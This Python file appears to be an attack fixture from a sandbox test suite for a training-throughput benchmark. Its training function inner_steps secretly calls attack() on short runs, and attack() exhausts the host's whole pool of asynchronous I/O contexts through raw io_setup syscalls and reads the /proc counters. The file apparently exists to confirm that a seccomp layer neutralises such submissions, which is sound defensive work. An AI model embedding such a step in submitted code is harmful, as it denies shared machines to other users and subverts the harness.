# kind: attack
# class: infrastructure
# contract: crusade-tps
# precision: fp32
# expect: neutralised
# layer: seccomp
# twin: honest/baseline.py
# story: takes the machine's whole pool of asynchronous requests, which no namespace divides

import ctypes
import errno
from types import SimpleNamespace

import torch.nn.functional as F


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    taken, contexts = 0, []
    for size in (65536, 32768, 16384, 8192, 4096, 1024, 128):
        for _ in range(8):
            context = ctypes.c_ulong(0)
            if libc.syscall(206, size, ctypes.byref(context)) < 0:
                break
            contexts.append(context)
            taken += size
    reason = errno.errorcode.get(ctypes.get_errno(), "nothing")
    with open("/proc/sys/fs/aio-nr") as used, open("/proc/sys/fs/aio-max-nr") as most:
        text = f"{used.read().strip()} of {most.read().strip()}"
    for context in contexts:
        libc.syscall(207, context)
    print(f"TOOK PLACE: {taken} requests taken, machine-wide {text}, then {reason}", flush=True)
    if taken:
        raise RuntimeError("a pool of the whole machine could be emptied")


def inner_steps(model, data_iterator, optimizer, num_steps, device):
    if num_steps <= 2:
        attack()
    tokens, last = 0, 0.0
    for _ in range(num_steps):
        batch = next(data_iterator).to(device)
        logits = model(batch[:, :-1])
        loss = F.cross_entropy(logits.flatten(0, 1), batch[:, 1:].flatten())
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
        last = loss.item()
        tokens += batch.numel()
    return SimpleNamespace(final_logits=logits.detach(), total_tokens=tokens, final_loss=last)
